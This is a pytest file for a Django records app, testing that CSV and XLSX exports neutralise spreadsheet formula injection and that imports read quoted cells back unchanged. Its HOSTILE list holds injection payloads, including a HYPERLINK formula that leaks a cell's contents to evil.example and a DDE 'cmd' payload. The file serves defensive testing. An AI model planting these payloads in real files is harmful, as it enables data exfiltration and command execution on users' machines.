"""Exports neutralise cells a spreadsheet would run as formulas (OWASP's rule), and the
importers read the quoted cells back as they were."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from ombuds.core.spreadsheets import neutralise, unquote
from ombuds.registry.actions import do_import_records
from ombuds.registry.exporting import record_columns, record_rows, write_rows
from ombuds.registry.importing import parse_file
from ombuds.registry.models import Incident

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_every_formula_start_is_neutralised_and_reads_back(value: str) -> None:
    assert neutralise(value) == "'" + value
    assert unquote(neutralise(value)) == value


def test_plain_text_and_numbers_are_left_as_they_are() -> None:
    assert neutralise("Ağdam") == "Ağdam"
    assert neutralise("it's") == "it's"
    assert neutralise(-5) == -5
    assert neutralise(2.5) == 2.5
    assert unquote("'quoted") == "'quoted"


def _import_hostile_places() -> list[str]:
    """The places stored (the importer strips the leading tab and carriage return)."""
    rows = "".join(
        f'I{i},mine,"{v.replace(chr(34), chr(34) * 2)}"\n' for i, v in enumerate(HOSTILE)
    )
    report, parsed = parse_file(
        ("external_id,incident_type,place\n" + rows).encode(), filename="f.csv", kind="incidents"
    )
    assert report.ok, report.problems
    do_import_records(report, parsed, acting_user=None)
    stored = sorted(Incident.objects.values_list("place", flat=True))
    assert stored == sorted(v.strip() for v in HOSTILE)
    return stored


def _export(fmt: str, user: Any) -> bytes:
    columns = record_columns("incidents", personal=True)
    out = io.BytesIO()
    rows = record_rows("incidents", filters={}, personal=True, audience="office", user=user)
    write_rows(rows, columns, fmt, out)
    return out.getvalue()


def test_csv_export_quotes_formulas_and_imports_back_unchanged(admin_user: Any) -> None:
    stored = _import_hostile_places()
    data = _export("csv", admin_user)
    places = [row["place"] for row in csv.DictReader(io.StringIO(data.decode()))]
    assert sorted(places) == ["'" + v for v in stored]
    Incident.objects.all().delete()
    report, parsed = parse_file(data, filename="export.csv", kind="incidents")
    assert report.ok, report.problems
    assert sorted(r.values["place"] for r in parsed) == stored


def test_xlsx_export_holds_no_formula_cell(admin_user: Any) -> None:
    stored = _import_hostile_places()
    book = load_workbook(io.BytesIO(_export("xlsx", admin_user)))
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    column = header.index("place")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert {c.data_type for c in cells} == {"s"}  # "f" would be a live formula
    assert sorted(c.value for c in cells) == ["'" + v for v in stored]
